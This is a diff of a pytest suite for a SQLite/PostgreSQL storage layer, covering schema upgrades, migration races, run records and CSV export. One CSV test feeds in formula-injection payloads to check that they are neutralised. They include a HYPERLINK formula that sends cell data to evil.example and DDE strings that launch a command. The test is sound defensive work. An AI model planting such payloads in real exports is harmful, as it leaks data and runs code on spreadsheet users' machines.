@@ -1,11 +1,15 @@
-"""Behaviour of capel_ui.storage against a real SQLite file (no mocks)."""
+"""Behaviour of capel_ui.storage against a real SQLite file (no mocks).
+
+Every test that takes the `engine` or `db_url` fixture runs again on a real PostgreSQL server in
+tests/test_storage_postgres.py; the upgrade from a database made by older code is in test_storage_upgrade.py.
+"""
 
 from __future__ import annotations
 
 import csv
 import dataclasses
-import inspect as pyinspect
 import io
+import random
 import subprocess
 import sys
 import threading
@@ -20,17 +24,11 @@ from sqlalchemy.engine import Connection
 
 from capel_ui.storage import (
     CSV_COLUMNS,
-    MIGRATIONS,
-    PROJECT_ROOT,
-    Base,
-    BenchResult,
     BenchResultRecord,
-    BenchRun,
     BenchRunRecord,
-    Run,
     RunRecord,
+    StorageError,
     add_bench_result,
-    applied_migrations,
     bench_results,
     create_migrated_engine,
     create_run,
@@ -47,14 +45,17 @@ from capel_ui.storage import (
     get_run,
     list_bench_runs,
     list_runs,
-    migrate,
     runs_to_csv,
     set_bench_run_status,
     update_run,
 )
 from capel_ui.storage import engine as engine_module
-from capel_ui.storage import migrations as migrations_module
-from capel_ui.storage._sqlite import install_sqlite_hooks
+from capel_ui.storage.engine import UPGRADES, applied_migrations, migrate
+from capel_ui.storage.schema import BenchResult, BenchRun, Run
+from capel_ui.vocab import ORIGINS, PROJECT_ROOT, STATUSES
+
+SCHEMA_VERSIONS = list(range(1, len(UPGRADES) + 2))
+"""Every schema version this code knows: 1 (the first shipped schema) and one per upgrade step."""
 
 # --- fixtures and helpers ------------------------------------------------------------------------
 
@@ -77,11 +78,12 @@ def engine(db_url: str) -> Engine:
 
 def run_fields(**overrides: Any) -> dict[str, Any]:
     fields: dict[str, Any] = {
+        "origin": "write",
         "model": "gpt-test",
         "backend": "openai",
         "mode": "capel",
         "lang": "en",
-        "unit": "words",
+        "unit": "en_words",
         "target": 100,
         "instruction": "Write about the sea.",
     }
@@ -114,6 +116,10 @@ def result_fields(item_id: str = "item-1", target: int = 100, mode: str = "capel
 def sqlite_pragma(engine: Engine, name: str) -> Any:
     with engine.connect() as conn:
         return conn.exec_driver_sql(f"PRAGMA {name}").scalar()
+
+
+def recorded_versions(engine: Engine) -> list[int]:
+    return [version for version, _, _ in applied_migrations(engine)]
 
 
 # --- URL and engine ------------------------------------------------------------------------------
@@ -149,7 +155,7 @@ def test_database_url_env_var_is_honoured(monkeypatch: pytest.MonkeyPatch) -> No
 def test_get_engine_without_url_uses_DATABASE_URL(monkeypatch: pytest.MonkeyPatch, db_url: str) -> None:
     monkeypatch.setenv("DATABASE_URL", db_url)
     assert get_engine() is get_engine(db_url)
-    assert str(get_engine().url) == db_url
+    assert get_engine().url.render_as_string(hide_password=False) == db_url
 
 
 def test_get_engine_caches_one_engine_per_url(tmp_path: Path) -> None:
@@ -178,16 +184,60 @@ def test_storage_never_imports_streamlit() -> None:
     subprocess.run([sys.executable, "-c", code], cwd=PROJECT_ROOT, check=True)
 
 
-# --- migrations ----------------------------------------------------------------------------------
+def _sqlite_with_header_then_noise() -> bytes:
+    return b"SQLite format 3\x00" + random.Random(1).randbytes(8176)
 
 
-def test_schema_migrations_lists_every_version(engine: Engine) -> None:
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(lambda: random.Random(0).randbytes(8192), id="random_bytes"),
+        pytest.param(lambda: "Notes, not a database. 不是数据库。\n".encode() * 200, id="a_text_file"),
+        pytest.param(_sqlite_with_header_then_noise, id="sqlite_header_then_noise"),
+    ],
+)
+def test_a_file_that_is_not_a_database_raises_storage_error_and_is_left_untouched(tmp_path: Path, content: Any) -> None:
+    path = tmp_path / "capel.db"
+    data = content()
+    path.write_bytes(data)
+    for _ in range(2):  # nothing is cached: asking again fails the same way
+        with pytest.raises(StorageError) as raised:
+            get_engine(f"sqlite:///{path}")
+        message = str(raised.value)
+        assert str(path) in message
+        assert "is not a CAPEL Studio database (or is damaged)" in message
+        assert "move it aside" in message.lower() and "DATABASE_URL" in message
+    assert path.read_bytes() == data
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["capel.db"]  # no -wal or -shm beside it either
+
+
+def test_a_database_that_cannot_be_opened_raises_storage_error_naming_it(tmp_path: Path) -> None:
+    folder = tmp_path / "a-folder.db"
+    folder.mkdir()
+    with pytest.raises(StorageError, match=r"cannot open the database at .*a-folder\.db.*DATABASE_URL"):
+        get_engine(f"sqlite:///{folder}")
+
+
+def test_a_database_from_a_newer_capel_studio_is_refused(db_url: str) -> None:
+    engine = get_engine(db_url)
+    with engine.begin() as conn:
+        conn.execute(text("INSERT INTO schema_migrations VALUES (99, 'm099_future', '2099-01-01 00:00:00')"))
+    with pytest.raises(StorageError, match="schema version 99, newer than this CAPEL Studio knows"):
+        create_migrated_engine(db_url)
+
+
+# --- schema versions -----------------------------------------------------------------------------
+
+
+def test_a_new_database_is_created_at_the_newest_version(engine: Engine) -> None:
     applied = applied_migrations(engine)
-    assert [(v, name) for v, name, _ in applied] == [(i + 1, m.__name__) for i, m in enumerate(MIGRATIONS)]
+    assert [(v, name) for v, name, _ in applied] == [(1, "m001_initial")] + [
+        (i + 2, step.__name__) for i, step in enumerate(UPGRADES)
+    ]
     assert all(at.tzinfo is not None for _, _, at in applied)
 
 
-def test_migrations_are_idempotent_on_same_and_fresh_engine(db_url: str) -> None:
+def test_opening_again_on_the_same_or_a_fresh_engine_changes_nothing(db_url: str) -> None:
     engine = get_engine(db_url)
     create_run(engine, **run_fields())
     assert get_engine(db_url) is engine
@@ -195,86 +245,104 @@ def test_migrations_are_idempotent_on_same_and_fresh_engine(db_url: str) -> None
     fresh = create_migrated_engine(db_url)
     try:
         assert migrate(fresh) == []
-        assert len(applied_migrations(fresh)) == len(MIGRATIONS)
+        assert recorded_versions(fresh) == SCHEMA_VERSIONS
         assert len(list_runs(fresh)) == 1
     finally:
         fresh.dispose()
 
 
-def test_migrations_are_numbered_one_to_n() -> None:
-    assert [migrations_module.version_of(m) for m in MIGRATIONS] == list(range(1, len(MIGRATIONS) + 1))
-
-
-def test_migrate_rejects_out_of_order_numbering(engine: Engine) -> None:
-    def m003_gap(conn: Connection) -> None:  # pragma: no cover - never runs
+def test_upgrade_steps_must_be_numbered_from_two_in_order(engine: Engine) -> None:
+    def m004_gap(conn: Connection) -> None:  # pragma: no cover - never runs
         raise AssertionError
 
-    with pytest.raises(ValueError, match="numbered"):
-        migrate(engine, [*MIGRATIONS, m003_gap])
+    with pytest.raises(ValueError, match="numbered in order"):
+        migrate(engine, [*UPGRADES, m004_gap])
 
 
-def test_migrations_do_not_use_the_orm_metadata() -> None:
-    source = pyinspect.getsource(migrations_module)
-    assert "from .models" not in source
-    assert "Base.metadata" not in source
+def _m_next(sql: str) -> Any:
+    """An extra upgrade step numbered after the real ones, running `sql`."""
+
+    def step(conn: Connection) -> None:
+        for statement in sql.split(";"):
+            conn.execute(text(statement))
+
+    step.__name__ = f"m{len(UPGRADES) + 2:03d}_trial"
+    return step
 
 
-def test_orm_models_match_migrated_schema(engine: Engine) -> None:
-    inspector = inspect(engine)
-    for table in Base.metadata.sorted_tables:
-        migrated = {c["name"]: c for c in inspector.get_columns(table.name)}
-        for column in table.columns:
-            assert column.name in migrated, f"{table.name}.{column.name} missing from migrations"
-            assert migrated[column.name]["nullable"] == column.nullable or column.primary_key, (
-                f"{table.name}.{column.name} nullability differs"
-            )
-        assert set(migrated) == set(table.columns.keys()), f"{table.name} has unmapped columns"
-        model_indexes = {i.name for i in table.indexes}
-        assert model_indexes <= {i["name"] for i in inspector.get_indexes(table.name)}
-        model_uniques = {c.name for c in table.constraints if c.__class__.__name__ == "UniqueConstraint"}
-        assert model_uniques == {u["name"] for u in inspector.get_unique_constraints(table.name)}
-    [fk] = inspector.get_foreign_keys("bench_results")
-    assert fk["referred_table"] == "bench_runs" and fk["options"].get("ondelete") == "CASCADE"
+def test_a_later_step_adds_a_column_once(engine: Engine) -> None:
+    step = _m_next("ALTER TABLE runs ADD COLUMN note VARCHAR(200)")
+    assert migrate(engine, [*UPGRADES, step]) == [len(UPGRADES) + 2]
+    assert "note" in {c["name"] for c in inspect(engine).get_columns("runs")}
+    assert migrate(engine, [*UPGRADES, step]) == []
 
 
-def test_records_have_exactly_the_model_columns() -> None:
-    for record, model, extra in (
-        (RunRecord, Run, set()),
-        (BenchRunRecord, BenchRun, {"result_count"}),
-        (BenchResultRecord, BenchResult, set()),
-    ):
-        fields = [f.name for f in dataclasses.fields(record) if f.name not in extra]
-        assert fields == list(model.__table__.columns.keys())
+def test_a_failing_step_is_rolled_back_and_not_recorded(engine: Engine) -> None:
+    step = _m_next("CREATE TABLE half_done (id INTEGER PRIMARY KEY); THIS IS NOT SQL")
+    with pytest.raises(Exception, match="syntax error"):
+        migrate(engine, [*UPGRADES, step])
+    assert not inspect(engine).has_table("half_done")
+    assert recorded_versions(engine) == SCHEMA_VERSIONS
 
 
-def test_migrate_continues_when_another_process_recorded_the_version(
+def _stale_once(monkeypatch: pytest.MonkeyPatch, name: str, stale: set[int], calls: list[str]) -> None:
+    """engine_module.<name> answers `stale` the first time, as if it read just before a racer committed."""
+    real = getattr(engine_module, name)
+
+    def stale_first(*args: Any) -> set[int]:
+        calls.append(name)
+        return stale if calls.count(name) == 1 else real(*args)
+
+    monkeypatch.setattr(engine_module, name, stale_first)
+
+
+def _racer(url: Any) -> Engine:
+    """A second engine on the same database, like another process's, without opening it through get_engine."""
+    racer = create_engine(url)
+    engine_module._install_sqlite_hooks(racer)
+    return racer
+
+
+def test_creating_continues_when_another_process_created_the_database_first(
     db_url: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    get_engine(db_url)  # "the other process" migrates first
-    # This process looked before the other committed: both checks say "not applied", so it runs m001
-    # again and its version insert hits the primary key; the re-check must absorb that.
-    real_is_applied = migrations_module._is_applied
-    calls: list[int] = []
-
-    def stale_first_check(conn: Connection, version: int) -> bool:
-        calls.append(version)
-        return False if len(calls) == 1 else real_is_applied(conn, version)
-
-    monkeypatch.setattr(migrations_module, "_recorded_versions", lambda engine: set())
-    monkeypatch.setattr(migrations_module, "_is_applied", stale_first_check)
-    racer = create_engine(db_url)
-    install_sqlite_hooks(racer)
+    get_engine(db_url)  # "the other process" creates the database first
+    # This process looked before the other committed: both checks say "empty", so it creates the tables
+    # again (checkfirst: nothing to do) and its version insert hits the primary key; the re-check absorbs that.
+    calls: list[str] = []
+    _stale_once(monkeypatch, "_recorded_now", set(), calls)
+    _stale_once(monkeypatch, "_recorded", set(), calls)
+    racer = _racer(db_url)
     try:
         assert migrate(racer) == []
     finally:
         racer.dispose()
-    assert calls == [1, 1]  # the stale check, then the re-check after the IntegrityError
-    assert len(applied_migrations(get_engine(db_url))) == len(MIGRATIONS)
+    assert calls[:3] == ["_recorded_now", "_recorded", "_recorded_now"]  # stale, stale, the re-check
+    assert recorded_versions(get_engine(db_url)) == SCHEMA_VERSIONS
+
+
+def test_upgrading_continues_when_another_process_applied_the_step_first(
+    engine: Engine, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    step = _m_next("ALTER TABLE runs ADD COLUMN note VARCHAR(200)")
+    migrate(engine, [*UPGRADES, step])  # "the other process" applies it first
+    # This process saw the step missing: its ALTER TABLE fails (duplicate column); the re-check absorbs that.
+    calls: list[str] = []
+    _stale_once(monkeypatch, "_recorded_now", set(SCHEMA_VERSIONS), calls)
+    _stale_once(monkeypatch, "_recorded", set(SCHEMA_VERSIONS), calls)
+    racer = _racer(engine.url)
+    try:
+        assert migrate(racer, [*UPGRADES, step]) == []
+    finally:
+        racer.dispose()
+    assert calls[:3] == ["_recorded_now", "_recorded", "_recorded_now"]  # stale, stale, the re-check
+    assert recorded_versions(engine) == [*SCHEMA_VERSIONS, len(UPGRADES) + 2]
 
 
 def test_processes_migrating_the_same_file_at_once_do_not_crash(db_url: str) -> None:
     code = (
-        "import sys; from capel_ui.storage import create_migrated_engine, applied_migrations;"
+        "import sys; from capel_ui.storage import create_migrated_engine;"
+        "from capel_ui.storage.engine import applied_migrations;"
         "e = create_migrated_engine(sys.argv[1]); print(len(applied_migrations(e)))"
     )
     procs = [
@@ -286,7 +354,7 @@ def test_processes_migrating_the_same_file_at_once_do_not_crash(db_url: str) -> 
     outputs = [p.communicate(timeout=60) for p in procs]
     for proc, (out, err) in zip(procs, outputs, strict=True):
         assert proc.returncode == 0, err.decode()
-        assert out.decode().strip() == str(len(MIGRATIONS))
+        assert out.decode().strip() == str(len(SCHEMA_VERSIONS))
 
 
 def test_threads_migrating_fresh_engines_on_the_same_file_do_not_crash(db_url: str) -> None:
@@ -309,27 +377,41 @@ def test_threads_migrating_fresh_engines_on_the_same_file_do_not_crash(db_url: s
     for e in engines:
         e.dispose()
     assert failures == []
-    assert len(applied_migrations(get_engine(db_url))) == len(MIGRATIONS)
+    assert recorded_versions(get_engine(db_url)) == SCHEMA_VERSIONS
 
 
-def test_a_later_migration_can_add_a_column_with_plain_alter_table(engine: Engine) -> None:
-    def m002_add_note(conn: Connection) -> None:
-        conn.execute(text("ALTER TABLE runs ADD COLUMN note VARCHAR(200)"))
+def test_the_created_schema_has_the_constraints_the_repository_relies_on(engine: Engine) -> None:
+    inspector = inspect(engine)
+    assert {"ix_runs_created_at", "ix_runs_model", "ix_runs_mode", "ix_runs_comparison_id", "ix_runs_group_id"} <= {
+        i["name"] for i in inspector.get_indexes("runs")
+    }
+    assert {u["name"] for u in inspector.get_unique_constraints("bench_runs")} == {"uq_bench_runs_key"}
+    assert {u["name"] for u in inspector.get_unique_constraints("bench_results")} == {"uq_bench_results_item"}
+    [fk] = inspector.get_foreign_keys("bench_results")
+    assert fk["referred_table"] == "bench_runs" and fk["options"].get("ondelete") == "CASCADE"
 
-    assert migrate(engine, [*MIGRATIONS, m002_add_note]) == [2]
-    assert "note" in {c["name"] for c in inspect(engine).get_columns("runs")}
-    assert migrate(engine, [*MIGRATIONS, m002_add_note]) == []
+
+# --- records -------------------------------------------------------------------------------------
 
 
-def test_a_failing_migration_is_rolled_back_and_not_recorded(engine: Engine) -> None:
-    def m002_broken(conn: Connection) -> None:
-        conn.execute(text("CREATE TABLE half_done (id INTEGER PRIMARY KEY)"))
-        conn.execute(text("THIS IS NOT SQL"))
+@pytest.mark.parametrize(
+    ("record", "mapped", "extra"),
+    [(RunRecord, Run, []), (BenchRunRecord, BenchRun, ["result_count"]), (BenchResultRecord, BenchResult, [])],
+)
+def test_records_are_frozen_dataclasses_with_one_field_per_column(record: Any, mapped: Any, extra: list[str]) -> None:
+    assert [f.name for f in dataclasses.fields(record)] == [*mapped.__table__.columns.keys(), *extra]
+    assert record.__dataclass_params__.frozen
 
-    with pytest.raises(Exception, match="syntax error"):
-        migrate(engine, [*MIGRATIONS, m002_broken])
-    assert not inspect(engine).has_table("half_done")
-    assert [v for v, _, _ in applied_migrations(engine)] == [1]
+
+def test_a_read_run_is_a_detached_read_only_copy(engine: Engine) -> None:
+    run_id = create_run(engine, **run_fields(errors=[{"type": "skip"}]))
+    run = get_run(engine, run_id)
+    assert isinstance(run, RunRecord)
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        run.text = "changed"  # type: ignore[misc]
+    dispose_engines()  # no session or connection behind it: every attribute is already there
+    assert (run.errors, run.origin, run.verified, run.attempts) == ([{"type": "skip"}], "write", False, [])
+    assert dataclasses.asdict(run)["id"] == run_id
 
 
 # --- runs ----------------------------------------------------------------------------------------
@@ -352,11 +434,13 @@ def test_run_round_trips_every_field_including_errors_and_unicode(engine: Engine
         base_url="http://localhost:11434/v1",
         mode="capel",
         lang="zh",
-        unit="chars",
+        unit="zh_chars",
         target=3,
         count=3,
         exact=True,
         valid=False,
+        verified=False,
+        origin="compare",
         errors=errors,
         prompt_tokens=120,
         completion_tokens=30,
@@ -365,7 +449,12 @@ def test_run_round_trips_every_field_including_errors_and_unicode(engine: Engine
         temperature=0.7,
         code=True,
         failure="connection reset",
+        failure_kind="unreachable",
+        finish_reason="length",
+        notice="This model misreads the countdown: the baseline instruction was used.",
         comparison_id="cmp-1",
+        group_id="grp-1",
+        attempts=[{"raw": "<3> 海 <2> 浪", "count": 2, "seconds": 0.5}, {"raw": "<3> 海 <2> 浪 <1> 花 <0>"}],
     )
     run_id = create_run(engine, **fields)
     run = get_run(engine, run_id)
@@ -378,8 +467,9 @@ def test_run_round_trips_every_field_including_errors_and_unicode(engine: Engine
 def test_create_run_applies_defaults(engine: Engine) -> None:
     run = get_run(engine, create_run(engine, **run_fields()))
     assert run is not None
-    assert run.status == "running"
-    assert run.errors == [] and run.code is False
+    assert run.status == "running" and run.verified is False
+    assert run.errors == [] and run.attempts == [] and run.code is False
+    assert (run.failure_kind, run.finish_reason, run.notice, run.group_id) == (None, None, None, None)
     assert run.raw == "" and run.text == "" and run.draft is None
     assert run.created_at.tzinfo == UTC and run.updated_at.tzinfo == UTC
     assert abs(run.created_at - datetime.now(UTC)) < timedelta(minutes=1)
@@ -390,10 +480,45 @@ def test_create_run_without_required_fields_raises(engine: Engine) -> None:
         create_run(engine, model="m")
 
 
-def test_creating_a_run_with_an_api_key_raises(engine: Engine) -> None:
-    with pytest.raises(ValueError, match="secrets are never stored"):
-        create_run(engine, **run_fields(api_key="sk-secret"))
+def test_every_run_says_where_it_was_started(engine: Engine) -> None:
+    fields = run_fields()
+    del fields["origin"]
+    with pytest.raises(ValueError, match=r"missing required runs field\(s\): \['origin'\]"):
+        create_run(engine, **fields)
+    for origin in ORIGINS:
+        run = get_run(engine, create_run(engine, **run_fields(origin=origin)))
+        assert run is not None and run.origin == origin
+
+
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        pytest.param({"status": "done"}, "runs.status must be one of", id="unknown_status"),
+        pytest.param({"origin": "page"}, "runs.origin must be one of", id="unknown_origin"),
+        pytest.param({"origin": None}, "runs.origin cannot be None", id="no_origin"),
+        pytest.param({"verified": None}, "runs.verified cannot be None", id="verified_none"),
+        pytest.param({"errors": "skip"}, "errors must be a list", id="errors_not_a_list"),
+        pytest.param({"attempts": {"raw": "x"}}, "attempts must be a list", id="attempts_not_a_list"),
+        pytest.param({"attempts": [object()]}, "each item of attempts must be a mapping", id="attempt_not_a_mapping"),
+        pytest.param({"colour": "blue"}, "unknown runs field", id="unknown_field"),
+        pytest.param({"api_key": "sk-secret"}, "secrets are never stored", id="api_key"),
+        pytest.param({"auth_token": "t"}, "secrets are never stored", id="auth_token"),
+    ],
+)
+def test_a_bad_run_field_is_refused_with_a_readable_message(
+    engine: Engine, fields: dict[str, Any], message: str
+) -> None:
+    with pytest.raises(ValueError, match=message):
+        create_run(engine, **run_fields(**fields))
     assert list_runs(engine) == []
+
+
+def test_statuses_are_the_vocabulary_ones(engine: Engine) -> None:
+    run_id = create_run(engine, **run_fields())
+    for status in STATUSES:
+        update_run(engine, run_id, status=status)
+        run = get_run(engine, run_id)
+        assert run is not None and run.status == status
 
 
 def test_updating_a_run_with_an_api_key_raises(engine: Engine) -> None:
@@ -402,17 +527,12 @@ def test_updating_a_run_with_an_api_key_raises(engine: Engine) -> None:
         update_run(engine, run_id, api_key="sk-secret")
 
 
-def test_unknown_run_fields_are_rejected(engine: Engine) -> None:
-    with pytest.raises(ValueError, match="unknown runs field"):
-        create_run(engine, **run_fields(colour="blue"))
+def test_unknown_run_fields_are_rejected_on_update_too(engine: Engine) -> None:
     run_id = create_run(engine, **run_fields())
     with pytest.raises(ValueError, match="unknown runs field"):
         update_run(engine, run_id, colour="blue")
-
-
-def test_invalid_status_is_rejected(engine: Engine) -> None:
-    with pytest.raises(ValueError, match="status"):
-        create_run(engine, **run_fields(status="done"))
+    with pytest.raises(ValueError, match=r"runs\.origin must be one of"):
+        update_run(engine, run_id, origin="page")
 
 
 def test_required_field_set_to_none_is_rejected(engine: Engine) -> None:
@@ -425,10 +545,18 @@ def test_update_sets_fields_and_updated_at_but_not_created_at(engine: Engine) ->
     run_id = create_run(engine, **run_fields())
     before = get_run(engine, run_id)
     assert before is not None
-    update_run(engine, run_id, status="complete", text="Done.", count=1, exact=False, errors=[{"type": "skip"}])
+    update_run(
+        engine, run_id, status="complete", text="Done.", count=1, exact=False, verified=False, errors=[{"type": "skip"}]
+    )
     after = get_run(engine, run_id)
     assert after is not None
-    assert (after.status, after.text, after.count, after.exact) == ("complete", "Done.", 1, False)
+    assert (after.status, after.text, after.count, after.exact, after.verified) == (
+        "complete",
+        "Done.",
+        1,
+        False,
+        False,
+    )
     assert after.errors == [{"type": "skip"}]
     assert after.updated_at > before.updated_at
     assert after.created_at == before.created_at
@@ -465,11 +593,6 @@ def test_errors_accept_objects_with_as_dict_and_dataclasses(engine: Engine) -> N
         {"type": "skip", "start": 0, "end": 1, "message": "x"},
         {"type": "repeat", "start": 1, "end": 2, "message": "m"},
     ]
-
-
-def test_errors_must_be_a_list(engine: Engine) -> None:
-    with pytest.raises(ValueError, match="errors must be a list"):
-        create_run(engine, **run_fields(errors="skip"))
 
 
 def test_base_url_credentials_are_stripped(engine: Engine) -> None:
@@ -525,30 +648,40 @@ def test_list_runs_is_newest_first_and_limited(engine: Engine) -> None:
     assert len(list_runs(engine, limit=None)) == 5
 
 
-def test_list_runs_filters_by_model(engine: Engine) -> None:
-    a = create_run(engine, **run_fields(model="a"))
-    create_run(engine, **run_fields(model="b"))
-    assert [r.id for r in list_runs(engine, model="a")] == [a]
+@pytest.mark.parametrize(
+    ("name", "wanted", "other"),
+    [
+        ("model", "a", "b"),
+        ("mode", "baseline", "capel"),
+        ("lang", "zh", "en"),
+        ("origin", "cli", "compare"),
+        ("comparison_id", "cmp-1", "cmp-2"),
+        ("group_id", "grp-1", "grp-2"),
+    ],
+)
+def test_list_runs_filters_by_one_column(engine: Engine, name: str, wanted: str, other: str) -> None:
+    hit = create_run(engine, **run_fields(**{name: wanted}))
+    create_run(engine, **run_fields(**{name: other}))
+    assert [r.id for r in list_runs(engine, **{name: wanted})] == [hit]
+    assert len(list_runs(engine)) == 2
 
 
-def test_list_runs_filters_by_mode(engine: Engine) -> None:
-    create_run(engine, **run_fields(mode="capel"))
-    plain = create_run(engine, **run_fields(mode="plain"))
-    assert [r.id for r in list_runs(engine, mode="plain")] == [plain]
+def test_verified_only_lists_verified_runs_not_runs_whose_count_happens_to_equal_the_target(engine: Engine) -> None:
+    verified = create_run(engine, **run_fields(status="complete", count=100, exact=True, valid=True, verified=True))
+    create_run(engine, **run_fields(status="partial", count=100, exact=True, valid=True, verified=False))  # cut off
+    create_run(engine, **run_fields(status="complete", count=99, exact=False, valid=True, verified=False))
+    create_run(engine, **run_fields())  # still running
+    assert [r.id for r in list_runs(engine, verified_only=True)] == [verified]
+    assert len(list_runs(engine)) == 4
 
 
-def test_list_runs_filters_by_lang(engine: Engine) -> None:
-    create_run(engine, **run_fields(lang="en"))
-    zh = create_run(engine, **run_fields(lang="zh"))
-    assert [r.id for r in list_runs(engine, lang="zh")] == [zh]
-
-
-def test_list_runs_exact_only(engine: Engine) -> None:
-    hit = create_run(engine, **run_fields(exact=True))
-    create_run(engine, **run_fields(exact=False))
-    create_run(engine, **run_fields())  # exact unknown (None)
-    assert [r.id for r in list_runs(engine, exact_only=True)] == [hit]
-    assert len(list_runs(engine)) == 3
+def test_storage_never_decides_verified_the_caller_does(engine: Engine) -> None:
+    run_id = create_run(engine, **run_fields())
+    update_run(engine, run_id, status="complete", count=100, exact=True, valid=True)
+    run = get_run(engine, run_id)
+    assert run is not None and run.verified is False
+    update_run(engine, run_id, verified=True)
+    assert [r.id for r in list_runs(engine, verified_only=True)] == [run_id]
 
 
 def test_list_runs_date_range_is_half_open(engine: Engine) -> None:
@@ -617,6 +750,14 @@ def test_distinct_values_lists_sorted_non_null_values(engine: Engine) -> None:
     assert distinct_values(engine, "comparison_id") == []
 
 
+def test_distinct_values_also_lists_origins_and_groups(engine: Engine) -> None:
+    create_run(engine, **run_fields(origin="write"))
+    create_run(engine, **run_fields(origin="variant", group_id="g2"))
+    create_run(engine, **run_fields(origin="variant", group_id="g1"))
+    assert distinct_values(engine, "origin") == ["variant", "write"]
+    assert distinct_values(engine, "group_id") == ["g1", "g2"]
+
+
 def test_distinct_values_rejects_other_columns(engine: Engine) -> None:
     with pytest.raises(ValueError):
         distinct_values(engine, "instruction")
@@ -625,27 +766,87 @@ def test_distinct_values_rejects_other_columns(engine: Engine) -> None:
 # --- CSV -----------------------------------------------------------------------------------------
 
 
-def test_csv_has_header_and_parses_back_with_commas_newlines_quotes(engine: Engine) -> None:
+def csv_rows(data: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data, newline="")))
+
+
+def test_csv_has_one_column_per_run_field_and_parses_back_with_commas_newlines_quotes(engine: Engine) -> None:
     tricky = 'Line one, with a comma\nline "two"\r\nand 中文'
     run_id = create_run(
         engine,
         **run_fields(
             instruction=tricky,
-            text="=SUM(A1)",
             exact=True,
             errors=[{"type": "skip"}, {"type": "skip"}, {"type": "early_stop"}],
+            attempts=[{"count": 3}],
         ),
     )
-    rows = list(csv.DictReader(io.StringIO(runs_to_csv(list_runs(engine)), newline="")))
-    assert len(rows) == 1
-    row = rows[0]
-    assert list(row) == list(CSV_COLUMNS)
-    assert row["id"] == str(run_id)
+    [row] = csv_rows(runs_to_csv(list_runs(engine)))
+    assert list(row) == list(CSV_COLUMNS) == [f.name for f in dataclasses.fields(RunRecord)]
+    assert {"verified", "origin", "group_id", "notice", "failure_kind", "finish_reason"} <= set(CSV_COLUMNS)
+    assert row["id"] == str(run_id) and row["origin"] == "write"
     assert row["instruction"] == tricky
-    assert row["text"] == "=SUM(A1)"
-    assert row["exact"] == "true" and row["valid"] == "" and row["code"] == "false"
+    assert row["exact"] == "true" and row["valid"] == "" and row["code"] == "false" and row["verified"] == "false"
     assert row["errors"] == "skip×2; early_stop×1"
+    assert row["attempts"] == '[{"count": 3}]'
     assert datetime.fromisoformat(row["created_at"]).tzinfo is not None
+
+
+def test_csv_verified_column_says_which_runs_are_verified(engine: Engine) -> None:
+    create_run(engine, **run_fields(status="complete", count=100, exact=True, valid=True, verified=True))
+    create_run(engine, **run_fields(status="partial", count=100, exact=True, valid=True, verified=False))
+    rows = csv_rows(runs_to_csv(list_runs(engine)))
+    assert [(r["status"], r["count"], r["exact"], r["verified"]) for r in rows] == [
+        ("partial", "100", "true", "false"),
+        ("complete", "100", "true", "true"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        pytest.param(
+            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+            id="equals",
+        ),
+        pytest.param("+1", "'+1", id="plus"),
+        pytest.param("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0", id="minus"),
+        pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
+        pytest.param("\t=1+1", "'\t=1+1", id="leading_tab"),
+        pytest.param("\r=1+1", "'\r=1+1", id="leading_carriage_return"),
+        pytest.param("-3", "'-3", id="a_number_in_a_text_column_is_text"),
+        pytest.param("A = B + C", "A = B + C", id="formula_characters_later_are_fine"),
+        pytest.param("'quoted already", "'quoted already", id="leading_quote_left_alone"),
+        pytest.param("", "", id="empty"),
+    ],
+)
+def test_csv_neutralises_text_cells_that_a_spreadsheet_would_run(engine: Engine, text: str, cell: str) -> None:
+    create_run(engine, **run_fields(text=text, instruction=text, model=text or "m"))
+    [row] = csv_rows(runs_to_csv(list_runs(engine)))
+    assert (row["text"], row["instruction"]) == (cell, cell)
+    assert row["model"] == (cell or "m")
+
+
+def test_csv_leaves_numbers_as_numbers_even_negative_ones(engine: Engine) -> None:
+    run = get_run(engine, create_run(engine, **run_fields(temperature=-0.5, count=3)))
+    assert run is not None
+    negative = dataclasses.replace(run, count=-3, target=-1, seconds=-1.25)  # e.g. a deviation-like number
+    [row] = csv_rows(runs_to_csv([negative]))
+    assert (row["count"], row["target"], row["seconds"], row["temperature"]) == ("-3", "-1", "-1.25", "-0.5")
+
+
+def test_csv_quotes_a_neutralised_cell_when_csv_requires_it(engine: Engine) -> None:
+    create_run(engine, **run_fields(text='=1+1, "two"\nthree'))
+    data = runs_to_csv(list_runs(engine))
+    assert '"\'=1+1, ""two""\nthree"' in data
+    assert csv_rows(data)[0]["text"] == '\'=1+1, "two"\nthree'
+
+
+def test_csv_never_shows_base_url_credentials() -> None:
+    run = RunRecord(**{f.name: None for f in dataclasses.fields(RunRecord)} | {"base_url": "https://u:p@h/v1?key=s"})
+    [row] = csv_rows(runs_to_csv([run]))
+    assert row["base_url"] == "https://h/v1"
 
 
 def test_csv_of_no_runs_is_just_the_header() -> None:
@@ -711,7 +912,7 @@ def test_add_bench_result_to_unknown_run_raises_key_error(engine: Engine) -> Non
 
 def test_add_bench_result_rejects_bad_status(engine: Engine) -> None:
     bench = get_or_create_bench_run(engine, "k", **bench_fields())
-    with pytest.raises(ValueError, match="status"):
+    with pytest.raises(ValueError, match=r"bench_results.status must be one of \('ok', 'error'\)"):
         add_bench_result(engine, bench.id, **result_fields(status="maybe"))
 
 
